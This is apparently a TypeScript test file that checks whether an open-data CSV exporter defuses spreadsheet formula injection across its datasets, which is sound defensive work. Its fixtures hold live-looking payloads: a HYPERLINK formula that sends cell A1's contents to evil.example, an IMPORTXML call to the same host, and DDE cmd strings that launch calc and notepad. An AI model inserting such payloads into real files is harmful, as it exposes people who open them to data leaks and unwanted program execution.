/**
 * Spreadsheet formula injection: record text that a spreadsheet would run, in a text column of
 * every dataset (the validator accepts all of it), is written to the CSV with a ' in front and
 * kept as written in the JSON.
 */
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { startsLikeFormula } from '../../../scripts/lib/csv-formula.ts';
import { event, library, lesson, note, org, ret } from '../../../tests/helpers/library.ts';
import { csvTable, DATASETS, type Dataset, jsonRecords, toCsv, toJson } from './open-data.ts';

const formulas = {
  title: '=HYPERLINK("https://evil.example/?"&A1,"Click for the debrief")',
  summary: "+cmd|' /C calc'!A0 is how a summary could start a program when the CSV is opened.",
  body: "-2+3+cmd|' /C notepad'!A0\n\nThe rest of the body.",
  noteTitle: "@SUM(1+1)*cmd|' /C calc'!A0",
  noteSummary: '\t=1+1 is a summary that starts with a tab, then a formula, long enough.',
  evidence: '=IMPORTXML("https://evil.example/", "//a") as evidence',
  eventName: '-1+1 exercise name',
  area: '\r=1+1 area',
  orgName: '＝1+1 organisation',
};

const lib = library({
  lessons: [
    lesson(
      '2024-01-05-a',
      {
        title: formulas.title,
        summary: formulas.summary,
        date: '2024-01-05',
        source: 'exercise',
        event: '2024-01-05-exercise',
        submitted: '2024-01-10',
        published: '2024-01-10',
      },
      { markdown: formulas.body, html: '' },
    ),
  ],
  notes: [
    note('2024-001', {
      title: formulas.noteTitle,
      summary: formulas.noteSummary,
      lessons: ['2024-01-05-a'],
    }),
  ],
  returns: [
    ret('2024-001', 'org-a', '2024-03-15', [
      { recommendation: 'R1', state: 'implemented', evidence: formulas.evidence },
    ]),
  ],
  events: [
    event('2024-01-05-exercise', {
      name: formulas.eventName,
      type: 'exercise',
      area: formulas.area,
    }),
  ],
  organisations: [org('org-a', 'police', formulas.orgName)],
});

describe('open data against spreadsheet formulas', () => {
  it("puts ' before every CSV cell that starts like a formula, in every dataset; the JSON keeps the text", () => {
    const defused: string[] = [];
    for (const d of DATASETS) {
      const table = csvTable(lib, d);
      const [header, ...rows] = parse(toCsv(table));
      expect(header, d).toEqual(table.header);
      table.rows.forEach((row, r) =>
        row.forEach((value, c) => {
          const where = `${d}.csv ${table.header[c]}`;
          if (startsLikeFormula(value)) {
            defused.push(value);
            expect(rows[r]![c], where).toBe(`'${value}`);
          } else {
            expect(rows[r]![c], where).toBe(value);
          }
        }),
      );
    }
    expect(defused.toSorted()).toEqual(Object.values(formulas).toSorted());

    // The JSON keeps the text as written.
    const about = {
      classification: 'official',
      edition: 'public',
      licence: 'Licence.',
      handling: 'Handling.',
    } as const;
    const json = (d: Dataset) =>
      (JSON.parse(toJson(jsonRecords(lib, d), about)) as { records: unknown[] }).records;
    expect(json('lessons')[0]).toMatchObject({
      title: formulas.title,
      summary: formulas.summary,
      body: formulas.body,
    });
    expect(json('action-notes')[0]).toMatchObject({
      title: formulas.noteTitle,
      summary: formulas.noteSummary,
    });
    expect(json('assurance')[0]).toMatchObject({ returns: [{ evidence: formulas.evidence }] });
    expect(json('events')[0]).toMatchObject({ name: formulas.eventName, area: formulas.area });
    expect(json('organisations')[0]).toMatchObject({ name: formulas.orgName });

    // Ids, dates and vocabulary values never start like a formula and are written as they are.
    const [header, row] = parse(toCsv(csvTable(lib, 'lessons')));
    expect(Object.fromEntries(header!.map((h, i) => [h, row![i]]))).toMatchObject({
      id: '2024-01-05-a',
      date: '2024-01-05',
      kind: 'lesson-identified',
      event: '2024-01-05-exercise',
    });
  });
});
